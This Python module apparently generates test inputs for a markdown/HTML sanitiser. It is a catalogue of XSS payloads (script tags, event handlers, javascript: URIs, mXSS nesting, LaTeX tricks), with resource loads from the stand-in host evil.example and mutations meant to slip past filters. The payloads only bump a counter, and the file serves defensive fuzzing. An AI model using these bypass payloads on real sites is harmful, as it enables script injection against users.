"""Texts that try to run something, or to fetch something, when a page shows them."""

import random
from collections.abc import Iterator

RUN = "window.ran=(window.ran||0)+1"
FAR = "//evil.example/x"
TAGS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={FAR}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'></use></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={FAR}></object>",
    f"<embed src={FAR}>",
    f"<link rel=stylesheet href={FAR}>",
    f"<link rel=prefetch href={FAR}>",
    f"<style>@import '{FAR}';</style>",
    f"<p style='background:url({FAR})'>x</p>",
    f"<video src={FAR} onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video poster={FAR}></video>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<form action='javascript:{RUN}'><button autofocus onfocus={RUN}>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href={FAR}>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea><img src=x onerror={RUN}></textarea>",
    f"<p title='--><img src=x onerror={RUN}>'>",
    f"<!--<img src='--><img src=x onerror={RUN}>'>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<x contenteditable onblur={RUN} tabindex=1 autofocus>x</x>",
    f"<img srcset='{FAR} 1x'>",
    f"<picture><source srcset={FAR}><img src=x></picture>",
    f"<table background={FAR}><tr><td>x</table>",
    "<form id=cookie><input name=body></form><a id=location href=x>",
)
MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x]: javascript:{RUN}\n\n[x]",
    f"![x]({FAR})",
    f"![x](https:{FAR} \"a' onerror={RUN} '\")",
    f"[x](https:{FAR} \"' onmouseover={RUN} '\")",
    f"<javascript:{RUN}>",
    f"[![x](x onerror={RUN})](javascript:{RUN})",
    f"```<img src=x onerror={RUN}>\ncode\n```",
    f"`<img src=x onerror={RUN}>`",
    rf"$\href{{javascript:{RUN}}}{{x}}$",
    rf"$$\includegraphics{{https:{FAR}}}$$",
    rf"$\htmlData{{x=1}}{{<img src=x onerror={RUN}>}}$",
    rf"\[\text{{<img src=x onerror={RUN}>}}\]",
    rf"$\url{{javascript:{RUN}}}$",
    r"$\def\x{\x\x}\x$",
    f"$<script>{RUN}</script>$",
)
FRAMES = (
    "{}",
    "> {}",
    "- {}\n- {}",
    "1. {}",
    "# {}",
    "| a | b |\n|---|---|\n| {} | {} |",
    "**{}**",
    "~~{}~~",
    "text {} text\n\n{}",
    "<div>\n\n{}\n\n</div>",
    "<p>{}",
    "<details><summary>{}</summary>{}",
    "[{}](https://example.com)",
    "&lt;{}&gt;",
    "{}\n===",
    "    {}",
    "```\n{}",
    "<table><tr><td>{}",
    "<svg>{}</svg>",
    "<math><mi>{}</mi></math>",
)


def hostile_texts(count: int, seed: int = 0) -> Iterator[str]:
    """Texts in markdown, each of them meant to do harm."""
    rng = random.Random(seed)
    for _ in range(count):
        parts = [_bent(rng, rng.choice(TAGS + MARKDOWN)) for _ in range(2)]
        frame = rng.choice(FRAMES)
        text = frame.replace("{}", parts[0], 1).replace("{}", parts[1])
        yield rng.choice((text, text, frame.replace("{}", text)))


def _bent(rng: random.Random, text: str) -> str:
    """The text as it is, or changed in a way that filters have fallen for."""
    way = rng.randrange(8)
    place = rng.randrange(len(text) + 1)
    if way == 0:
        return "".join(rng.choice((letter.upper(), letter.lower())) for letter in text)
    if way == 1:
        return text[:place] + rng.choice("\0\t\n\r\x0b\u200b\u2028/\\\"'<>`&") + text[place:]
    if way == 2:
        return text.replace(" ", "/", 1)
    if way == 3:
        return text.replace("<", "<<", 1)
    if way == 4:
        return text[:place]  # cut, as a stream is
    if way == 5:
        return text.replace("javascript", "&#x6A;avascript")
    return text
